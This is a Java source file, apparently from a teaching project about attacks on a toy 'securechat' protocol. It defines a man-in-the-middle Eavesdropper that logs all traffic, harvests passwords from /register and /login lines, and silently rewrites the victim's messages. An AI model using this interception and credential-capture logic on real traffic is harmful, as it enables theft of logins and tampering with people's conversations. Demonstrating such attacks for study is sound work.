package securechat.attacks.mitm;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import securechat.attacks.wire.LineRewriter;

/**
 * The man in the middle's view of the chat once it holds both channels: keeps every line it reads,
 * notes passwords from {@code /register} and {@code /login}, and replaces {@code find} by {@code
 * replacement} in what the victim says, so the recipient reads what the attacker wants.
 */
final class Eavesdropper implements LineRewriter {
  private final String find;
  private final String replacement;
  private final List<String> read = Collections.synchronizedList(new ArrayList<>());
  private final List<String> passwords = Collections.synchronizedList(new ArrayList<>());
  private final List<String> rewritten = Collections.synchronizedList(new ArrayList<>());

  Eavesdropper(String find, String replacement) {
    this.find = find;
    this.replacement = replacement;
  }

  @Override
  public Optional<String> rewrite(Direction direction, String line) {
    read.add((direction == Direction.TO_SERVER ? "victim → server  " : "server → victim  ") + line);
    if (direction == Direction.TO_CLIENT) {
      return Optional.of(line);
    }
    String[] words = line.split(" ", 3);
    if (words.length == 3 && (words[0].equals("/register") || words[0].equals("/login"))) {
      passwords.add(words[1] + "'s password is " + words[2]);
    }
    if (!find.isEmpty() && line.contains(find) && !line.startsWith("/register")) {
      String changed = line.replace(find, replacement);
      rewritten.add("changed '" + line + "' into '" + changed + "'");
      return Optional.of(changed);
    }
    return Optional.of(line);
  }

  /** Every line read, in order, marked with its direction. */
  List<String> read() {
    synchronized (read) {
      return List.copyOf(read);
    }
  }

  List<String> passwords() {
    synchronized (passwords) {
      return List.copyOf(passwords);
    }
  }

  List<String> rewritten() {
    synchronized (rewritten) {
      return List.copyOf(rewritten);
    }
  }
}
